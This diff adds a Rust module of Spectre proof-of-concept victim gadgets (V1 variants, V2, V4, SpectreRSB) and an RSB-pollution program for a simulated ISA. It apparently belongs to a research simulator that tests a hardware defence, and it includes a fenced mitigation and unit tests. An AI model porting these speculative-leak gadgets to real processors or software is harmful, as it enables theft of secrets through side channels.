@@ -1,0 +1,585 @@
+//! Executable Spectre proof-of-concept gadgets.
+//!
+//! Each gadget is a complete victim program with a documented memory
+//! layout, so the attack orchestrator (`condspec-attacks`) can train the
+//! predictor, flush/prime the relevant lines, supply the malicious input
+//! and probe the side channel afterwards.
+//!
+//! All layouts follow the structure of the paper's Listings 1 and 2: an
+//! instruction *A* speculatively reads the secret, a dependent
+//! instruction *B* transmits it by touching a probe-array line selected
+//! by the secret value. The page-stride variants (`shl 12`, as in the
+//! paper's PoC) encode the secret at page granularity in a shared probe
+//! array; the same-page variants (`shl 6`) encode it at cache-line
+//! granularity *inside the secret's own page*, which is what makes the
+//! non-shared-memory attacks of Table IV rows 5-6 invisible to TPBuf.
+
+use condspec_isa::{AluOp, BranchCond, Program, ProgramBuilder, Reg};
+
+
+/// Fixed virtual-address layout shared by all gadgets.
+pub mod layout {
+    /// Victim code base.
+    pub const CODE: u64 = 0x0001_0000;
+    /// Attacker-controlled input word (the index `x`).
+    pub const INPUT: u64 = 0x0002_0000;
+    /// Bounds word (`array1_len`) — flushed to open the window.
+    pub const LEN: u64 = 0x0003_0000;
+    /// Victim's legitimate array (256 bytes valid).
+    pub const ARRAY1: u64 = 0x0004_0000;
+    /// The secret byte's address.
+    pub const SECRET: u64 = 0x0050_0000;
+    /// Shared probe array: 256 slots with page (4 KiB) stride.
+    pub const PROBE: u64 = 0x0100_0000;
+    /// V2 function-pointer slot.
+    pub const FNPTR: u64 = 0x0006_0000;
+    /// V4 pointer slot "P".
+    pub const PTR_SLOT: u64 = 0x0007_0000;
+    /// V4 benign redirect target.
+    pub const BENIGN: u64 = 0x0008_0000;
+    /// Page stride used by shared-memory transmit gadgets.
+    pub const PAGE_STRIDE: u64 = 4096;
+    /// Line stride used by same-page transmit gadgets.
+    pub const LINE_STRIDE: u64 = 64;
+    /// Number of probe slots for page-stride gadgets (one per byte
+    /// value).
+    pub const PAGE_SLOTS: usize = 256;
+    /// Number of probe slots for same-page gadgets (bounded by the page
+    /// size: the transmit range must stay inside the secret's page).
+    pub const SAME_PAGE_SLOTS: usize = 60;
+    /// The planted secret byte (must be `< SAME_PAGE_SLOTS` so both
+    /// gadget families can encode it, and nonzero so the V4 architectural
+    /// replay, which transmits slot 0, is distinguishable).
+    pub const SECRET_BYTE: u8 = 42;
+}
+
+/// Which Spectre variant a gadget implements.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum GadgetKind {
+    /// Bounds-check bypass via conditional-branch misprediction
+    /// (Listing 2), transmitting through the shared page-stride probe
+    /// array.
+    V1,
+    /// Branch-target injection: a poisoned BTB entry sends an indirect
+    /// jump to a disclosure gadget.
+    V2,
+    /// Speculative store bypass (Listing 1): a load speculatively reads a
+    /// stale pointer and dereferences the secret.
+    V4,
+    /// V1 control flow, but the transmit array lives in the *same
+    /// physical page* as the secret with cache-line stride — the shape
+    /// that evades the S-Pattern (used for the Prime+Probe and
+    /// Evict+Time non-shared scenarios).
+    V1SamePage,
+    /// V1 control flow with a page-plus-line (4160-byte) transmit stride,
+    /// so every secret value maps to a distinct L1 set *and* a distinct
+    /// page — used by the shared-memory Prime+Probe (SpectrePrime-like)
+    /// scenario, where the attacker monitors sets rather than lines.
+    V1SetStride,
+    /// Return-stack speculation (SpectreRSB / ret2spec, the paper's
+    /// related-work reference [35]): the attacker leaves a poisoned
+    /// return address on the shared RAS; the victim's `ret` — whose real
+    /// target is a delinquent load away — speculatively returns into the
+    /// disclosure gadget.
+    Rsb,
+}
+
+impl GadgetKind {
+    /// All gadget kinds.
+    pub const ALL: [GadgetKind; 6] = [
+        GadgetKind::V1,
+        GadgetKind::V2,
+        GadgetKind::V4,
+        GadgetKind::V1SamePage,
+        GadgetKind::V1SetStride,
+        GadgetKind::Rsb,
+    ];
+}
+
+/// A built gadget: the victim program plus everything the attacker needs
+/// to know about its layout.
+#[derive(Debug, Clone)]
+pub struct SpectreGadget {
+    /// Variant.
+    pub kind: GadgetKind,
+    /// The victim program.
+    pub program: Program,
+    /// Address of the attacker-controlled input word.
+    pub input_addr: u64,
+    /// Address of the bounds word (flush target), if the gadget has one.
+    pub len_addr: Option<u64>,
+    /// Address of the secret byte.
+    pub secret_addr: u64,
+    /// Base of the transmit/probe array.
+    pub probe_base: u64,
+    /// Stride between probe slots.
+    pub probe_stride: u64,
+    /// Number of probe slots (distinct encodable secret values).
+    pub probe_slots: usize,
+    /// PC of the mispredicted conditional branch (V1 family).
+    pub branch_pc: Option<u64>,
+    /// PC of the indirect jump (V2).
+    pub indirect_pc: Option<u64>,
+    /// Address of the disclosure gadget (V2 BTB poison target).
+    pub gadget_entry: Option<u64>,
+    /// Address the indirect jump architecturally goes to (V2).
+    pub legit_target: Option<u64>,
+    /// Address of the V4 pointer slot / V2 function-pointer slot that the
+    /// attacker flushes to widen the window.
+    pub pointer_slot: Option<u64>,
+    /// The in-bounds input used for training runs.
+    pub train_input: u64,
+    /// The malicious input that reaches the secret.
+    pub attack_input: u64,
+    /// The planted secret bytes (defaults to `[SECRET_BYTE]`).
+    secret: Vec<u8>,
+}
+
+impl SpectreGadget {
+    /// Builds the gadget for `kind` with the default layout and the
+    /// default planted secret ([`layout::SECRET_BYTE`]).
+    pub fn build(kind: GadgetKind) -> SpectreGadget {
+        Self::build_with_secret(kind, &[layout::SECRET_BYTE])
+    }
+
+    /// Builds the V1 gadget with an `lfence` inserted right after the
+    /// bounds check — the software mitigation the paper's related-work
+    /// section contrasts against. The fence stops the attack even on the
+    /// unprotected core, at the cost of serializing every call.
+    ///
+    /// # Panics
+    ///
+    /// Panics for non-V1 kinds (the mitigation is gadget-specific).
+    pub fn build_fenced(kind: GadgetKind) -> SpectreGadget {
+        assert_eq!(kind, GadgetKind::V1, "fenced variant exists for V1 only");
+        let mut gadget = build_v1(V1Mode::PageStride);
+        // Rebuild with a fence as the first instruction of the
+        // speculative body (right after the branch).
+        let branch_idx = gadget
+            .program
+            .insts()
+            .iter()
+            .position(|i| i.is_branch())
+            .expect("v1 has a branch");
+        let mut insts = gadget.program.insts().to_vec();
+        insts.insert(branch_idx + 1, condspec_isa::Inst::Fence);
+        // Instruction addresses after the insertion shift by 4; the only
+        // absolute target in V1 is the branch's forward target, which
+        // lies after the insertion point.
+        for inst in &mut insts[..=branch_idx] {
+            if let condspec_isa::Inst::Branch { target, .. } = inst {
+                *target += condspec_isa::INST_BYTES;
+            }
+        }
+        gadget.program =
+            Program::new(gadget.program.code_base(), insts, gadget.program.data().to_vec());
+        gadget
+    }
+
+    /// Builds the gadget with an arbitrary secret byte string planted at
+    /// [`layout::SECRET`]. The gadget's `attack_input` points at the
+    /// first byte; an orchestrator reads byte `i` by adding `i` to it.
+    ///
+    /// # Panics
+    ///
+    /// Panics if `secret` is empty, longer than a cache line, or (for
+    /// the same-page variant) contains bytes outside the encodable
+    /// range.
+    pub fn build_with_secret(kind: GadgetKind, secret: &[u8]) -> SpectreGadget {
+        assert!(!secret.is_empty(), "a secret must be planted");
+        assert!(secret.len() <= 64, "the secret must fit one cache line");
+        let mut gadget = match kind {
+            GadgetKind::V1 => build_v1(V1Mode::PageStride),
+            GadgetKind::V1SamePage => build_v1(V1Mode::SamePage),
+            GadgetKind::V1SetStride => build_v1(V1Mode::SetStride),
+            GadgetKind::V2 => build_v2(),
+            GadgetKind::V4 => build_v4(),
+            GadgetKind::Rsb => build_rsb(),
+        };
+        for b in secret {
+            assert!(
+                (*b as usize) < gadget.probe_slots,
+                "secret byte {b} is not encodable by this gadget's {} probe slots",
+                gadget.probe_slots
+            );
+        }
+        gadget.secret = secret.to_vec();
+        // Re-plant the data segment.
+        let program = &gadget.program;
+        let mut data = program.data().to_vec();
+        for seg in &mut data {
+            if seg.base == layout::SECRET {
+                seg.bytes = secret.to_vec();
+            }
+        }
+        gadget.program =
+            crate::gadgets::Program::new(program.code_base(), program.insts().to_vec(), data);
+        gadget
+    }
+
+    /// The probe-slot address that encodes `value`.
+    ///
+    /// # Panics
+    ///
+    /// Panics if `value` is outside the encodable range.
+    pub fn probe_slot_addr(&self, value: usize) -> u64 {
+        assert!(value < self.probe_slots, "value {value} exceeds probe slots");
+        self.probe_base + value as u64 * self.probe_stride
+    }
+
+    /// The first planted secret byte (for single-byte verdicts).
+    pub fn planted_secret(&self) -> u8 {
+        self.secret[0]
+    }
+
+    /// The full planted secret (for multi-byte extraction demos).
+    pub fn planted_secret_bytes(&self) -> &[u8] {
+        &self.secret
+    }
+}
+
+/// Length of the value-preserving multiply chain that widens the
+/// speculation window (each multiply costs 3 dependent cycles).
+const WINDOW_CHAIN: usize = 80;
+
+/// The three V1 transmit-array layouts.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum V1Mode {
+    /// Page stride through the shared probe array (`shl 12`).
+    PageStride,
+    /// Line stride inside the secret's own page (`shl 6`).
+    SamePage,
+    /// Page-plus-line stride through the shared probe array (distinct L1
+    /// sets per value, for set-granular channels).
+    SetStride,
+}
+
+fn build_v1(mode: V1Mode) -> SpectreGadget {
+    use layout::*;
+    let mut b = ProgramBuilder::new(CODE);
+    // Register conventions: r10 array1, r11 &len, r12 &input, r13 probe
+    // base, r14 x, r1 len, r2 secret byte, r3 shifted index, r8 transmit
+    // address.
+    b.li(Reg::R10, ARRAY1);
+    b.li(Reg::R11, LEN);
+    b.li(Reg::R12, INPUT);
+    let (probe_base, stride, slots): (u64, u64, usize) = match mode {
+        // Transmit inside the secret's own page, starting one line above
+        // the secret byte itself.
+        V1Mode::SamePage => (SECRET + LINE_STRIDE, LINE_STRIDE, SAME_PAGE_SLOTS),
+        V1Mode::PageStride => (PROBE, PAGE_STRIDE, PAGE_SLOTS),
+        V1Mode::SetStride => (PROBE, PAGE_STRIDE + LINE_STRIDE, PAGE_SLOTS),
+    };
+    b.li(Reg::R13, probe_base);
+    b.li(Reg::R16, 1);
+    if mode != V1Mode::PageStride {
+        // In the eviction-based scenarios the attacker cannot flush the
+        // secret line, and the victim legitimately touches its own secret
+        // beforehand, so the secret line is cached and the A -> B leak
+        // chain is fast.
+        b.load_byte(Reg::R20, Reg::R0, SECRET as i64);
+    }
+    b.load(Reg::R14, Reg::R12, 0); // x = *input
+    b.load(Reg::R1, Reg::R11, 0); // len = *len_addr (attacker flushes LEN)
+    // Long dependence chain on the bounds value (paper §II.B): keeps the
+    // branch unresolved in the Issue Queue long enough for the disclosure
+    // chain to issue, independent of where `len` is cached.
+    for _ in 0..WINDOW_CHAIN {
+        b.alu(AluOp::Mul, Reg::R1, Reg::R1, Reg::R16);
+    }
+    let branch_pc = b.here();
+    b.branch_to(BranchCond::GeU, Reg::R14, Reg::R1, "skip"); // bounds check
+    b.alu(AluOp::Add, Reg::R8, Reg::R10, Reg::R14);
+    b.load_byte(Reg::R2, Reg::R8, 0); // A: array1[x] — the secret when x is OOB
+    // B's slot address: secret * stride + probe_base. A multiply keeps
+    // the dependence chain A -> B explicit for any stride.
+    b.li(Reg::R15, stride);
+    b.alu(AluOp::Mul, Reg::R3, Reg::R2, Reg::R15);
+    b.alu(AluOp::Add, Reg::R8, Reg::R13, Reg::R3);
+    b.load(Reg::R4, Reg::R8, 0); // B: transmit
+    b.label("skip").expect("fresh label");
+    b.halt();
+    // Data: input + len + array1 + the secret byte.
+    b.data_u64s(INPUT, &[0]);
+    b.data_u64s(LEN, &[256]);
+    b.data_segment(ARRAY1, (0..=255u8).collect());
+    b.data_segment(SECRET, vec![SECRET_BYTE]);
+    SpectreGadget {
+        kind: match mode {
+            V1Mode::PageStride => GadgetKind::V1,
+            V1Mode::SamePage => GadgetKind::V1SamePage,
+            V1Mode::SetStride => GadgetKind::V1SetStride,
+        },
+        program: b.build().expect("gadget assembles"),
+        input_addr: INPUT,
+        len_addr: Some(LEN),
+        secret_addr: SECRET,
+        probe_base,
+        probe_stride: stride,
+        probe_slots: slots,
+        branch_pc: Some(branch_pc),
+        indirect_pc: None,
+        gadget_entry: None,
+        legit_target: None,
+        pointer_slot: None,
+        train_input: 17, // in bounds
+        attack_input: SECRET - ARRAY1,
+        secret: vec![SECRET_BYTE],
+    }
+}
+
+fn build_v2() -> SpectreGadget {
+    use layout::*;
+    let mut b = ProgramBuilder::new(CODE);
+    b.li(Reg::R20, FNPTR);
+    b.li(Reg::R13, PROBE);
+    b.li(Reg::R21, SECRET);
+    b.li(Reg::R16, 1);
+    b.load(Reg::R22, Reg::R20, 0); // fn ptr — attacker flushes FNPTR
+    // Dependence chain on the jump target: the indirect jump stays
+    // unresolved while the poisoned-path gadget executes, even when the
+    // gadget's own code and data are cold on the first round.
+    for _ in 0..(2 * WINDOW_CHAIN + 40) {
+        b.alu(AluOp::Mul, Reg::R22, Reg::R22, Reg::R16);
+    }
+    let indirect_pc = b.here();
+    b.jump_indirect(Reg::R22, 0);
+    let legit_target = b.here();
+    b.label("legit").expect("fresh label");
+    b.halt();
+    let gadget_entry = b.here();
+    b.label("gadget").expect("fresh label");
+    b.load_byte(Reg::R2, Reg::R21, 0); // A: the secret
+    b.alu_imm(AluOp::Shl, Reg::R3, Reg::R2, 12);
+    b.alu(AluOp::Add, Reg::R8, Reg::R13, Reg::R3);
+    b.load(Reg::R4, Reg::R8, 0); // B: transmit
+    b.halt();
+    b.data_u64s(FNPTR, &[legit_target]);
+    b.data_segment(SECRET, vec![SECRET_BYTE]);
+    b.data_u64s(INPUT, &[0]);
+    SpectreGadget {
+        kind: GadgetKind::V2,
+        program: b.build().expect("gadget assembles"),
+        input_addr: INPUT,
+        len_addr: None,
+        secret_addr: SECRET,
+        probe_base: PROBE,
+        probe_stride: PAGE_STRIDE,
+        probe_slots: PAGE_SLOTS,
+        branch_pc: None,
+        indirect_pc: Some(indirect_pc),
+        gadget_entry: Some(gadget_entry),
+        legit_target: Some(legit_target),
+        pointer_slot: Some(FNPTR),
+        train_input: 0,
+        attack_input: 0,
+        secret: vec![SECRET_BYTE],
+    }
+}
+
+fn build_v4() -> SpectreGadget {
+    use layout::*;
+    let mut b = ProgramBuilder::new(CODE);
+    // Listing 1 shape: a store whose address resolves late, bypassed by a
+    // dependent load chain that dereferences the stale pointer.
+    b.li(Reg::R10, PTR_SLOT);
+    b.li(Reg::R11, BENIGN);
+    b.li(Reg::R13, PROBE);
+    // Warm the pointer slot (the victim uses P regularly).
+    b.load(Reg::R19, Reg::R10, 0);
+    b.fence(); // the warm-up is not part of the speculative window
+    // Slow chain computing the store address: ~120 dependent multiplies.
+    b.li(Reg::R5, 1);
+    for _ in 0..120 {
+        b.alu(AluOp::Mul, Reg::R5, Reg::R5, Reg::R5);
+    }
+    b.alu(AluOp::Mul, Reg::R6, Reg::R10, Reg::R5); // r6 = P (late)
+    b.store(Reg::R11, Reg::R6, 0); // i1: *P = &benign   (unresolved store)
+    b.load(Reg::R2, Reg::R10, 0); // i4: speculative bypass reads stale *P = &secret
+    b.load_byte(Reg::R3, Reg::R2, 0); // A: secret byte
+    b.alu_imm(AluOp::Shl, Reg::R4, Reg::R3, 12);
+    b.alu(AluOp::Add, Reg::R8, Reg::R13, Reg::R4);
+    b.load(Reg::R9, Reg::R8, 0); // B: transmit
+    b.halt();
+    b.data_u64s(PTR_SLOT, &[SECRET]);
+    b.data_segment(BENIGN, vec![0; 64]);
+    b.data_segment(SECRET, vec![SECRET_BYTE]);
+    b.data_u64s(INPUT, &[0]);
+    SpectreGadget {
+        kind: GadgetKind::V4,
+        program: b.build().expect("gadget assembles"),
+        input_addr: INPUT,
+        len_addr: None,
+        secret_addr: SECRET,
+        probe_base: PROBE,
+        probe_stride: PAGE_STRIDE,
+        probe_slots: PAGE_SLOTS,
+        branch_pc: None,
+        indirect_pc: None,
+        gadget_entry: None,
+        legit_target: None,
+        pointer_slot: Some(PTR_SLOT),
+        train_input: 0,
+        attack_input: 0,
+        secret: vec![SECRET_BYTE],
+    }
+}
+
+/// The SpectreRSB victim: loads its return address from memory (the
+/// attacker flushes that slot, so the `ret` stays unresolved), returns —
+/// and the return-address-stack predictor, polluted by the attacker's
+/// unbalanced calls, sends the wrong path into the disclosure gadget.
+fn build_rsb() -> SpectreGadget {
+    use layout::*;
+    let mut b = ProgramBuilder::new(CODE);
+    b.li(Reg::R13, PROBE);
+    b.li(Reg::R21, SECRET);
+    b.li(Reg::R20, FNPTR); // reuse the pointer slot for the return address
+    b.li(Reg::R16, 1);
+    b.load(Reg::R31, Reg::R20, 0); // return address — attacker flushes FNPTR
+    // Keep the ret unresolved while the predicted path runs.
+    for _ in 0..(2 * WINDOW_CHAIN + 40) {
+        b.alu(AluOp::Mul, Reg::R31, Reg::R31, Reg::R16);
+    }
+    let indirect_pc = b.here();
+    b.ret(Reg::R31); // predicted from the (poisoned) RAS
+    let legit_target = b.here();
+    b.label("legit").expect("fresh label");
+    b.halt();
+    let gadget_entry = b.here();
+    b.label("gadget").expect("fresh label");
+    b.load_byte(Reg::R2, Reg::R21, 0); // A: the secret
+    b.li(Reg::R15, PAGE_STRIDE);
+    b.alu(AluOp::Mul, Reg::R3, Reg::R2, Reg::R15);
+    b.alu(AluOp::Add, Reg::R8, Reg::R13, Reg::R3);
+    b.load(Reg::R4, Reg::R8, 0); // B: transmit
+    b.halt();
+    b.data_u64s(FNPTR, &[legit_target]);
+    b.data_segment(SECRET, vec![SECRET_BYTE]);
+    b.data_u64s(INPUT, &[0]);
+    SpectreGadget {
+        kind: GadgetKind::Rsb,
+        program: b.build().expect("gadget assembles"),
+        input_addr: INPUT,
+        len_addr: None,
+        secret_addr: SECRET,
+        probe_base: PROBE,
+        probe_stride: PAGE_STRIDE,
+        probe_slots: PAGE_SLOTS,
+        branch_pc: None,
+        indirect_pc: Some(indirect_pc),
+        gadget_entry: Some(gadget_entry),
+        legit_target: Some(legit_target),
+        pointer_slot: Some(FNPTR),
+        train_input: 0,
+        attack_input: 0,
+        secret: vec![SECRET_BYTE],
+    }
+}
+
+/// The attacker's RAS-pollution program: a call whose callee *discards*
+/// its return address and halts, leaving the pushed entry (pointing one
+/// instruction past the call) stale on the shared return-address stack.
+/// The attacker places a `jump <poison_target>` at that address, so the
+/// victim's stale-RAS return speculatively lands on the poison target.
+pub fn rsb_pollution_program(poison_target: u64) -> Program {
+    // Run in the attacker's own code region, away from the victim's.
+    let mut b = ProgramBuilder::new(0x000f_0000);
+    b.call_to("callee", Reg::R31);
+    // The RAS entry points here: redirect speculation into the victim's
+    // disclosure gadget. (Architecturally never executed: the callee
+    // halts.)
+    b.jump(poison_target);
+    b.label("callee").expect("fresh label");
+    b.halt(); // never returns: the RAS entry is left dangling
+    b.build().expect("pollution program assembles")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn all_gadgets_assemble() {
+        for kind in GadgetKind::ALL {
+            let g = SpectreGadget::build(kind);
+            assert!(!g.program.is_empty());
+            assert_eq!(g.kind, kind);
+            assert!(g.probe_slots > usize::from(layout::SECRET_BYTE));
+        }
+    }
+
+    #[test]
+    fn rsb_gadget_layout() {
+        let g = SpectreGadget::build(GadgetKind::Rsb);
+        assert_ne!(g.legit_target, g.gadget_entry);
+        let pollution = rsb_pollution_program(g.gadget_entry.unwrap());
+        assert!(pollution.len() >= 3);
+    }
+
+    #[test]
+    fn v1_layout_reaches_secret() {
+        let g = SpectreGadget::build(GadgetKind::V1);
+        assert_eq!(layout::ARRAY1 + g.attack_input, g.secret_addr);
+        assert!(g.train_input < 256);
+        assert!(g.branch_pc.is_some());
+        assert_eq!(g.probe_stride, 4096);
+    }
+
+    #[test]
+    fn same_page_variant_stays_in_secret_page() {
+        let g = SpectreGadget::build(GadgetKind::V1SamePage);
+        let last = g.probe_slot_addr(g.probe_slots - 1) + 63;
+        assert_eq!(
+            last >> 12,
+            g.secret_addr >> 12,
+            "transmit array must share the secret's page to evade TPBuf"
+        );
+        assert_eq!(g.probe_stride, 64);
+    }
+
+    #[test]
+    fn v2_pointer_and_targets() {
+        let g = SpectreGadget::build(GadgetKind::V2);
+        let legit = g.legit_target.unwrap();
+        let gadget = g.gadget_entry.unwrap();
+        assert_ne!(legit, gadget);
+        // The function pointer in the data segment points at legit.
+        let fnptr_seg = g
+            .program
+            .data()
+            .iter()
+            .find(|s| s.base == layout::FNPTR)
+            .expect("fnptr segment");
+        assert_eq!(u64::from_le_bytes(fnptr_seg.bytes[..8].try_into().unwrap()), legit);
+    }
+
+    #[test]
+    fn v4_pointer_slot_holds_secret_address() {
+        let g = SpectreGadget::build(GadgetKind::V4);
+        let seg = g
+            .program
+            .data()
+            .iter()
+            .find(|s| s.base == layout::PTR_SLOT)
+            .expect("pointer slot segment");
+        assert_eq!(
+            u64::from_le_bytes(seg.bytes[..8].try_into().unwrap()),
+            g.secret_addr
+        );
+    }
+
+    #[test]
+    fn probe_slot_addresses() {
+        let g = SpectreGadget::build(GadgetKind::V1);
+        assert_eq!(g.probe_slot_addr(0), layout::PROBE);
+        assert_eq!(g.probe_slot_addr(42), layout::PROBE + 42 * 4096);
+    }
+
+    #[test]
+    #[should_panic(expected = "exceeds probe slots")]
+    fn probe_slot_out_of_range_panics() {
+        let g = SpectreGadget::build(GadgetKind::V1SamePage);
+        let _ = g.probe_slot_addr(255);
+    }
+}
